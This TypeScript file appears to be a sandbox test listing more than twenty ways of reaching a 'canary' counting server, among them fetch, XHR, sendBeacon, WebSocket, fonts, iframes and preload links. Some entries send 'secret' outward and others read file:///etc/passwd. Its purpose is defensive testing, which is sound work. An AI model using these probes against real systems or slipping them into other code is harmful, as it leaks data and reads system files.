import type { Attempt } from './attempt.ts';

/** Sending something out or loading something in. The canary is a server that counts whoever reaches it. */
export const networkAttempts: readonly Attempt[] = [
  { name: 'fetch', run: async ({ canary }) => (await fetch(`${canary}/fetch`, { mode: 'no-cors' })).type },
  {
    name: 'XMLHttpRequest',
    run: ({ canary }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${canary}/xhr`, false);
      request.send('secret');
      return 'sent';
    },
  },
  {
    name: 'WebSocket',
    run: ({ canary }) =>
      new Promise((done) => {
        const socket = new WebSocket(canary.replace('http', 'ws'));
        socket.onopen = () => done('open');
        socket.onerror = () => done(null);
      }),
  },
  {
    name: 'EventSource',
    run: ({ canary }) =>
      new Promise((done) => {
        const source = new EventSource(`${canary}/events`);
        source.onopen = () => done('open');
        source.onerror = () => {
          source.close();
          done(null);
        };
      }),
  },
  {
    name: 'sendBeacon',
    run: async ({ canary }) => {
      navigator.sendBeacon(`${canary}/beacon`, 'secret');
      await new Promise((resume) => setTimeout(resume, 200));
      return null;
    },
  },
  {
    name: 'image object',
    run: ({ canary }) =>
      new Promise((done) => {
        const image = new Image();
        image.onload = () => done('loaded');
        image.onerror = () => done(null);
        image.src = `${canary}/image.png?secret`;
      }),
  },
  {
    name: 'font',
    run: async ({ canary }) => (await new FontFace('x', `url(${canary}/font.woff2)`).load()) && 'loaded',
  },
  {
    name: 'style sheet with an import',
    run: async ({ canary }) => {
      const style = document.createElement('style');
      style.textContent = `@import url(${canary}/style.css); body { background-image: url(${canary}/bg.png) }`;
      document.head.append(style);
      await new Promise((resume) => setTimeout(resume, 300));
      style.remove();
      return null;
    },
  },
  {
    name: 'WebTransport',
    run: ({ canary }) => new WebTransport(canary.replace('http', 'https')).ready.then(() => 'ready'),
  },
  { name: 'fetch of file:', run: async () => (await fetch('file:///etc/passwd')).text() },
  { name: 'fetch of another app: host', run: async () => (await fetch('app://other/index.html')).text() },
  { name: 'image element', markup: (canary) => `<img src="${canary}/img.png">` },
  { name: 'frame', markup: (canary) => `<iframe src="${canary}/frame"></iframe>` },
  { name: 'frame of file:', markup: () => '<iframe src="file:///etc/passwd"></iframe>' },
  { name: 'frame of our own page', markup: () => '<iframe src="/"></iframe>' },
  {
    name: 'frame of data:',
    markup: () => '<iframe src="data:text/html,<script>parent.x=1</script>"></iframe>',
  },
  { name: 'object', markup: (canary) => `<object data="${canary}/object"></object>` },
  { name: 'embed', markup: (canary) => `<embed src="${canary}/embed">` },
  { name: 'video', markup: (canary) => `<video src="${canary}/video.mp4" autoplay></video>` },
  { name: 'style sheet link', markup: (canary) => `<link rel="stylesheet" href="${canary}/link.css">` },
  { name: 'prefetch', markup: (canary) => `<link rel="prefetch" href="${canary}/prefetch">` },
  { name: 'preload', markup: (canary) => `<link rel="preload" as="image" href="${canary}/preload">` },
  { name: 'preconnect', markup: (canary) => `<link rel="preconnect" href="${canary}">` },
  { name: 'SVG image reference', markup: (canary) => `<svg><image href="${canary}/svg.png"/></svg>` },
  { name: 'inline style', markup: (canary) => `<p style="background: url(${canary}/inline.png)">x</p>` },
];
